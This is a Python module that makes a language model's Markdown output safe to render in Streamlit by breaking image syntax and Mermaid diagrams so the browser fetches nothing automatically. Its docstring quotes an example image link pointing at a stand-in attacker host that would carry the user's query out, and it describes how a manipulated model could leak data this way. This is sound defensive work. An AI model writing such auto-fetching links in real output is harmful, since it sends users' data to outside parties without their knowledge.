"""Making a model's Markdown harmless: nothing in it is fetched unless a reader clicks it.

``st.markdown`` renders no HTML, but it fetches images and draws Mermaid diagrams, which fetch
images too. A model that was made to write ``![](https://attacker.example/?<what was asked>)`` would
send that away without a click. So images become links, and diagrams are shown as code.

A word joiner takes no room. Between the two characters that begin an image it ends their meaning
wherever they stand: nobody has to find out what the browser's parser takes for code. Code in a
fence is drawn without Markdown and stays as it came (growing.py); in other code, such as
``vec![1]`` in a line, the joiner is copied, too.
"""

from __future__ import annotations

import re
from html import unescape

__all__ = ["safe"]

JOINER = "\u2060"
FENCE = re.compile(r"(`{3}|~{3})([^\r\n]*)")
MERMAID = re.compile(r"m(?=ermaid)|&", re.IGNORECASE)
# What may stand in front of a block in its first line: quotations and list items.
CONTAINERS = r"[ \t>*+\d.)-]*"
CODE = r"(?<!`)(?P<code>`+)(?!`).*?(?<!`)(?P=code)(?!`)"
# A directive that Streamlit would drop with its text: all but its own, if they have one.
OWN = (
    r"(?:(?:red|orange|yellow|green|blue|violet|purple|gr[ae]y|primary|rainbow)"
    r"(?:-background|-badge)?|small|shimmer|help|color)"
)
DROPPED = (
    rf"(?<!\\):(?:(?=[a-z][\w-]{{0,80}}[\[{{])(?!{OWN}\[[^\[\]\r\n]{{1,300}}\])"
    rf"|(?={OWN}(?![\w\[{{-])))"
)
DROPS = re.compile(rf"{CODE}|^{CONTAINERS}::+|{DROPPED}", re.IGNORECASE | re.MULTILINE | re.DOTALL)


def safe(markdown: str) -> str:
    """Return the text with nothing in it that a browser would fetch, or drop.

    Images and diagrams get a word joiner. What Streamlit would drop outside of code, such as the
    ``[0]`` of ``a[i:n[0]]``, gets a backslash: a joiner may be part of a directive's name. A text
    without them comes back as it is.
    """
    text = FENCE.sub(_without_diagram, markdown.replace("![", f"!{JOINER}["))
    return DROPS.sub(_shown, text)


def _without_diagram(fence: re.Match[str]) -> str:
    if "mermaid" not in unescape(fence[2]).lower():
        return fence[0]
    return fence[1] + MERMAID.sub(rf"\g<0>{JOINER}", fence[2])


def _shown(match: re.Match[str]) -> str:
    return match[0] if match["code"] else match[0].replace(":", r"\:")
